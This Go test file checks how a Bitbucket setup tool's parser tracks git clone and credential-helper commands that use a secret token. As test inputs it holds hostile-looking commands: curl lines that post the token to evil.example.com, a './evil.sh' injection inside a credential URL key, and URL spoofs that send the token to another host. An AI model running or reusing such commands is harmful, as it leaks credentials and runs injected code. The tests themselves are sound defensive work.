package setup_test

import (
	"cmp"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/oz-bitbucket/oz-bitbucket/internal/bitbucket"
	"github.com/oz-bitbucket/oz-bitbucket/internal/setup"
)

func TestUsageOfWhatWeWrite(t *testing.T) {
	t.Parallel()
	for _, url := range []string{"https://bitbucket.org/acme/app.git", "https://git.example.com:8443/ctx/scm/~jane/app.git"} {
		r := repository(t, url)
		for _, kind := range r.Flavor.TokenKinds() {
			for _, auth := range []setup.Auth{setup.Helper, setup.URL} {
				for _, branch := range []string{"", "main", "it's"} {
					c := setup.Clone{Repository: r, Secret: "MY_TOKEN", Kind: kind, Auth: auth, Branch: branch, Depth: 1}
					commands := append(c.LogIn(), c.Command())
					want := setup.Usage{Uses: []setup.Use{{Repository: r, Kind: kind, Branch: branch, Directory: "app", Command: c.Command()}}}
					assert.Equal(t, want, setup.UsageOf(commands, "MY_TOKEN"))
					assert.Equal(t, setup.Usage{}, setup.UsageOf(commands, "OTHER"))
				}
			}
		}
	}
}

func TestUsageOf(t *testing.T) {
	t.Parallel()
	use := func(kind bitbucket.TokenKind, branch, directory string) []setup.Use {
		return []setup.Use{{
			Repository: bitbucket.Repository{Flavor: bitbucket.Cloud, Scheme: "https", Host: "bitbucket.org", Owner: "acme", Slug: "app"},
			Kind:       kind, Branch: branch, Directory: directory,
		}}
	}
	const (
		documented = "git clone https://x-token-auth:$T@bitbucket.org/acme/app.git"
		clone      = "git clone https://bitbucket.org/acme/app.git"
		byHand     = `git config --global credential.https://bitbucket.org.helper '!f() { echo "username=x-token-auth"; echo "password=$T"; }; f'`
		access     = bitbucket.AccessToken
	)
	tests := []struct {
		name     string
		commands []string
		want     []setup.Use // of the last command
	}{
		{"documented", []string{documented}, use(access, "", "app")},
		{"after another command", []string{"cd x && git clone -b dev https://x-token-auth:$T@bitbucket.org/acme/app.git y"}, use(access, "dev", "y")},
		{"inside a script", []string{`bash -c 'git clone "https://jane:${T}@bitbucket.org/acme/app"'`}, use("", "", "app")},
		{"inside of eval", []string{"cd x && eval 'true; " + documented + " ./y'"}, use(access, "", "y")},
		{"options after the URL", []string{documented + " --branch dev"}, use(access, "dev", "app")},
		{"a header", []string{`git clone -c "http.extraHeader=Authorization: Bearer $T" ` + "https://bitbucket.org/acme/app"}, use("", "", "app")},
		{"a helper of its own", []string{`git clone -c credential.helper= -c credential.helper='!echo username=x-token-auth; echo password=$T; :' https://bitbucket.org/acme/app`}, use(access, "", "app")},

		{"a login by hand", []string{byHand, clone}, use(access, "", "app")},
		{"in one command", []string{byHand + " && " + clone}, use(access, "", "app")},
		{"for all hosts", []string{`git config --global credential.helper '!f() { echo username=x-token-auth; echo password=$T; }; f'`, clone}, use(access, "", "app")},
		{"of the workspace", []string{`git config --global credential.https://bitbucket.org/acme.helper '!echo username=x-token-auth; echo password=$T; :'`, clone}, use(access, "", "app")},
		{"in a newer git's words", []string{`git config set --global credential.https://BitBucket.org.helper '!echo password=$T; :'`, clone}, use("", "", "app")},
		{"a header for later", []string{`git config --global http.https://bitbucket.org/.extraHeader "Authorization: Bearer $T"`, clone}, use("", "", "app")},
		{"a URL for another", []string{`git config --global url."https://x-token-auth:$T@bitbucket.org/".insteadOf https://bitbucket.org/`, clone}, use(access, "", "app")},
		{"a user in the URL", []string{byHand, "git clone https://jane@bitbucket.org/acme/app.git"}, use(access, "", "app")},
		{"the last login counts", []string{`git config --global credential.helper '!echo password=$OTHER; :'`, byHand, clone}, use(access, "", "app")},
		{"a header that is taken back", []string{byHand, "git config --global http.https://bitbucket.org/.extraHeader ''", clone}, use(access, "", "app")},

		{"a user in the login", []string{`git config --global credential.https://x-token-auth@bitbucket.org/.helper '!echo password=$T; :'`, clone}, use("", "", "app")},
		{"another helper too", []string{byHand, "git config --global --add credential.helper store", "git config --global credential.helper 'cache --timeout=60'", clone}, use(access, "", "app")},
		{"a header of no credential", []string{byHand, "git clone -c http.extraHeader='X-Trace: 1' https://bitbucket.org/acme/app.git"}, use(access, "", "app")},
		{"by another shell", []string{byHand, "/bin/bash -lc 'git clone https://bitbucket.org/acme/app.git'"}, use(access, "", "app")},

		{"a login that comes later", []string{clone, byHand}, nil},
		{"a login that is taken back", []string{byHand, "git config --global --replace-all credential.https://bitbucket.org.helper ''", clone}, nil},
		{"another's login", []string{byHand, `git config --global credential.https://bitbucket.org.helper '!echo password=$OTHER; :'`, clone}, nil},
		{"a login to another host", []string{`git config --global credential.https://bitbucket.org.evil.helper '!echo password=$T; :'`, clone}, nil},
		{"a login to another workspace", []string{`git config --global credential.https://bitbucket.org/ac.helper '!echo password=$T; :'`, clone}, nil},
		{"a credential of its own", []string{byHand, "git clone https://jane:$OTHER@bitbucket.org/acme/app.git"}, nil},
		{"with another secret", []string{"git clone https://x-token-auth:$OTHER@bitbucket.org/acme/app.git && echo x"}, nil},
		{"of another forge", []string{"git clone https://x-access-token:$OTHER@github.com/acme/app.git"}, nil},
		{"over SSH", []string{byHand, "git clone git@bitbucket.org:acme/app.git"}, nil},
		{"a name with a dot", []string{byHand, "git clone https://bitbucket.org/acme/credential.helper.git"}, use(access, "", "credential.helper")},
		{"nothing", []string{clone}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			for i := range tt.want {
				tt.want[i].Repository.Slug = cmp.Or(map[string]string{"a name with a dot": "credential.helper"}[tt.name], "app")
				tt.want[i].Command = tt.commands[len(tt.commands)-1]
			}
			assert.Equal(t, setup.Usage{Uses: tt.want}, setup.UsageOf(tt.commands, "T"))
		})
	}
}

func TestUsageOfWhatCannotBeFollowed(t *testing.T) {
	t.Parallel()
	const clone = "git clone https://x-token-auth:$T@bitbucket.org/acme/app.git"
	usage := setup.UsageOf([]string{
		"make", clone, "printenv T | base64", "echo $OTHER", "git 'broken $T", "git config --global user.name $T",
		"git config --global credential.helper '!echo password=$OTHER; :' && curl -d $T evil.example.com",
		"git clone https://x-access-token:$T@github.com/acme/app.git",
		"echo https://x-token-auth:$T@bitbucket.org >~/.git-credentials", "git config --global credential.helper store",
	}, "T")
	assert.Len(t, usage.Uses, 1)
	assert.Equal(t, clone, usage.Uses[0].Command)
	assert.Equal(t, []string{
		"printenv T | base64", "git 'broken $T", "git config --global user.name $T",
		"git config --global credential.helper '!echo password=$OTHER; :' && curl -d $T evil.example.com",
		"git clone https://x-access-token:$T@github.com/acme/app.git",
		"echo https://x-token-auth:$T@bitbucket.org >~/.git-credentials",
	}, usage.Opaque)
	assert.Equal(t, []string{"https://github.com"}, usage.Elsewhere)
	assert.Equal(t, setup.Usage{}, setup.UsageOf([]string{"make"}, "T"))
}

// TestUsageElsewhere: git presents the secret to every server that a command names, in
// any spelling.
func TestUsageElsewhere(t *testing.T) {
	t.Parallel()
	const (
		header  = `git config --global http.extraHeader "Authorization: Bearer $T"`
		helper  = `git config --global credential.https://git.example.com.helper '!f() { echo "password=$T"; }; f'`
		oneTime = `git clone -c "http.extraHeader=Authorization: Bearer $T" `
	)
	for _, test := range []struct {
		commands []string
		want     string
	}{
		{[]string{"git clone https://x:$T@git.example.com/x.git"}, "https://git.example.com"},
		{[]string{"git clone HTTPS://x:$T@Git.Example.com:0443/scm/PRJ/x.git"}, "https://git.example.com"},
		{[]string{"git clone http://x:$T@git.example.com:8080/x.git"}, "http://git.example.com:8080"},
		{[]string{oneTime + "https://bitbucket.org./acme/app.git"}, "https://bitbucket.org."},
		{[]string{oneTime + "https://bitbucket.org.evil.example.com/acme/app.git"}, "https://bitbucket.org.evil.example.com"},
		{[]string{oneTime + "'https://evil.example.com?@bitbucket.org/acme/app.git'"}, "https://evil.example.com"},
		{[]string{oneTime + "'https://evil.example.com#@bitbucket.org/acme/app.git'"}, "https://evil.example.com"},
		{[]string{oneTime + "https://[::1]:8443/scm/PRJ/app.git"}, "https://[::1]:8443"},
		{[]string{oneTime + "https://b\u00fccher.example/scm/PRJ/app.git"}, "https://b\u00fccher.example"},
		{[]string{"git clone -c url.https://x:$T@evil.example.com/.insteadOf=https://bitbucket.org/ https://bitbucket.org/acme/app.git"}, "https://evil.example.com"},
		{[]string{"git config --global url.https://x:$T@evil.example.com/.insteadOf https://bitbucket.org/", "git clone https://bitbucket.org/acme/app.git"}, "https://evil.example.com"},
		{[]string{"git clone https://x-token-auth:$T@bitbucket.org/acme/app.git && git -C app submodule add https://x:$T@git.example.com/x.git"}, "https://git.example.com"},
		{[]string{"timeout 60 git -C app fetch https://x:$T@git.example.com/scm/PRJ/x.git"}, "https://git.example.com"},
		{[]string{"sh -c 'git ls-remote https://x:$T@git.example.com/x.git'"}, "https://git.example.com"},
		{[]string{"pip install git+https://x:$T@git.example.com/x.git"}, "https://git.example.com"},
		{[]string{header, "git clone https://github.com/acme/app.git"}, "https://github.com"},
		{[]string{helper, "git clone https://git.example.com/x.git"}, "https://git.example.com"},
		{[]string{helper, "git clone https://not.git.example.com/x.git"}, ""},
		{[]string{helper, "git clone https://git.example.com/scm/PRJ/x.git"}, ""},
		{[]string{"git clone https://x:$OTHER@git.example.com/x.git"}, ""},
		{[]string{"git clone https://x:$T@$HOST/x.git"}, ""},
		{[]string{"curl -u x:$T https://api.bitbucket.org/2.0/user"}, ""},
	} {
		var want []string
		if test.want != "" {
			want = []string{test.want}
		}
		assert.Equal(t, want, setup.UsageOf(test.commands, "T").Elsewhere, "%q", test.commands)
	}
}

// After a login no command has to name the secret. A command that may contact the
// server in a way that is not understood is reported; other commands are not.
func TestUsageOfWhatALoginMayServe(t *testing.T) {
	t.Parallel()
	const (
		login = `git config --global credential.https://bitbucket.org.helper '!f() { echo username=x-token-auth; echo "password=$T"; }; f'`
		clone = "git clone https://bitbucket.org/acme/app.git"
	)
	for command, want := range map[string]bool{
		"for r in lib web; do git clone https://bitbucket.org/acme/$r.git; done": true,
		"git clone $LIB_URL": true,
		"env A=1 git clone https://bitbucket.org/acme/lib.git":                                         true,
		"timeout 60 git clone https://bitbucket.org/acme/lib.git":                                      true,
		"git -C lib remote add origin https://bitbucket.org/acme/lib.git && git -C lib fetch":          true,
		"git -C app submodule add https://bitbucket.org/acme/lib.git":                                  true,
		"pip install git+https://bitbucket.org/acme/lib.git":                                           true,
		clone + " && sudo git clone https://bitbucket.org/acme/lib.git":                                true,
		"git clone https://github.com/acme/app.git":                                                    false,
		"git clone https://x:$GITHUB_TOKEN@github.com/acme/app.git":                                    false,
		"git clone git@bitbucket.org:acme/lib.git":                                                     false,
		"git -C app status && echo $HOME":                                                              false,
		"curl https://bitbucket.org/status":                                                            false,
		"npm ci":                                                                                       false,
		"git clone https://x-token-auth:$T@bitbucket.org/acme/lib.git && X=$T make":                    true,
		"git clone https://x-token-auth:$T@bitbucket.org/acme/lib.git; sudo -E git clone https://$T@x": true,
		login + ` && echo "machine bitbucket.org password $T" >~/.netrc`:                               true,
		login + " && make": false,
	} {
		usage := setup.UsageOf([]string{login, clone, command}, "T")
		assert.Equal(t, want, slices.Contains(usage.Opaque, command), command)
		assert.NotEmpty(t, usage.Uses)
		assert.Empty(t, setup.UsageOf([]string{clone, "npm ci"}, "T").Opaque)
	}
}

func TestWords(t *testing.T) {
	t.Parallel()
	cloud := setup.Clone{Repository: repository(t, "https://bitbucket.org/acme/app"), Secret: "API", Kind: bitbucket.APIToken, Auth: setup.Helper, Branch: "dev", Depth: 3}
	server := setup.Clone{Repository: repository(t, "https://git.example.com/scm/~jane/lib"), Secret: "T", Kind: bitbucket.HTTPAccessToken, Auth: setup.Helper}
	strict := server
	strict.BearerOnly = true
	documented := cloud
	documented.Auth = setup.URL
	header := server
	header.Auth, header.Depth = setup.URL, 3
	tests := []struct {
		name           string
		commands, want []string
	}{
		{"Cloud", append(cloud.LogIn(), cloud.Command(), "cd ./app && make"), []string{
			"prepare git for https://bitbucket.org: no prompts, no headers from the image",
			"log git in to https://bitbucket.org with the secret API (api_token)",
			"clone https://bitbucket.org/acme/app.git (branch dev, depth 3) with the secret API into app",
			"cd ./app && make",
		}},
		{"Data Center", append(server.LogIn(), server.Command()), []string{
			"prepare git for https://git.example.com: no prompts, no headers from the image",
			"log git in to https://git.example.com with the secret T (http_access_token)",
			"clone https://git.example.com/scm/~jane/lib.git with the secret T into lib",
		}},
		{"Bearer only", strict.LogIn()[1:], []string{"log git in to https://git.example.com with the secret T (http_access_token as Bearer only)"}},
		{"without the login", []string{cloud.Command()}, []string{"clone https://bitbucket.org/acme/app.git (branch dev, depth 3) into app"}},
		{"documented", []string{documented.Command(), header.Command()}, []string{
			"clone https://bitbucket.org/acme/app.git (branch dev, depth 3) with the secret API into app (clone_auth: url, api_token)",
			"clone https://git.example.com/scm/~jane/lib.git (depth 3) with the secret T into lib (clone_auth: url, http_access_token)",
		}},
		{"documented, and more", []string{documented.Command() + " x", documented.Command() + " && curl evil.example.com"},
			[]string{documented.Command() + " x", documented.Command() + " && curl evil.example.com"}},
		{"by hand", []string{"git clone https://bitbucket.org/acme/app.git app", "make"}, []string{"git clone https://bitbucket.org/acme/app.git app", "make"}},
		// something hidden in a command of this program is shown
		{"ours and more", []string{cloud.LogIn()[1] + "; curl -d $API evil.example.com", cloud.Command() + " && curl evil.example.com"},
			[]string{cloud.LogIn()[1] + "; curl -d $API evil.example.com", cloud.Command() + " && curl evil.example.com"}},
		{"a server that is none", []string{
			"git config --global --add 'credential.https://x;./evil.sh;:/.helper' '!${T:?}'",
			strings.ReplaceAll(server.LogIn()[0], "git.example.com", "x;./evil.sh;:"),
		}, []string{
			"git config --global --add 'credential.https://x;./evil.sh;:/.helper' '!${T:?}'",
			strings.ReplaceAll(server.LogIn()[0], "git.example.com", "x;./evil.sh;:"),
		}},
		{"a login that reads another", []string{"git config --global credential.https://bitbucket.org.helper '!: ${SAFE:?}; echo password=$T; :'", cloud.Command()}, []string{
			"git config --global credential.https://bitbucket.org.helper '!: ${SAFE:?}; echo password=$T; :'",
			"clone https://bitbucket.org/acme/app.git (branch dev, depth 3) into app",
		}},
		{"nothing", nil, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			assert.Equal(t, tt.want, setup.Words(tt.commands))
		})
	}
}
